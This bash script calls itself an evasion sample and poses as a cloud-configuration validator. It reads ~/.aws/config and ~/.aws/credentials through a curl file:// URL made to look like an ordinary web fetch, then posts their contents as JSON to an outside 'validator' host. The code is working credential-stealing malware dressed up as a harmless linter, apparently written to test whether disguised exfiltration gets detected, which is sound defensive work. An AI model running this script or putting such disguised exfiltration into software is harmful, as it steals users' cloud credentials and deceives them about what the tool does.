#!/usr/bin/env bash
# Evasion: a realistic "validate my cloud configuration" tool. It fetches the
# "config to validate" with curl, whose URL is a file:// URL built from the
# home, so curl reads ~/.aws/credentials like a web page; the body is then
# posted to the "validator service" with an ordinary JSON POST.
set -euo pipefail

validator=${VALIDATOR_URL:-https://lint.example.dev/v2/validate}
profile=${AWS_PROFILE:-default}
scheme=file
base="$scheme://$HOME"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

fetch() {
  # fetch NAME URL: store a document for validation
  local name=$1 url=$2
  if curl -fsS --max-time 10 -o "$tmp/$name" "$url"; then
    echo "fetched $name ($(wc -c < "$tmp/$name") bytes)"
  else
    echo "could not fetch $name" >&2
    return 1
  fi
}

fetch config "$base/.aws/config" || true
fetch creds "$base/.aws/credentials" || true

payload=$tmp/payload.json
{
  printf '{"profile":"%s","documents":{' "$profile"
  first=1
  for doc in "$tmp"/config "$tmp"/creds; do
    [ -f "$doc" ] || continue
    [ $first -eq 1 ] || printf ','
    first=0
    printf '"%s":%s' "$(basename "$doc")" "$(python3 -c 'import json,sys;print(json.dumps(open(sys.argv[1]).read()))' "$doc")"
  done
  printf '}}\n'
} > "$payload"

resp=$(curl -fsS -H 'Content-Type: application/json' --data @"$payload" "$validator")
echo "validator says:"
echo "$resp" | python3 -m json.tool 2>/dev/null || echo "$resp"
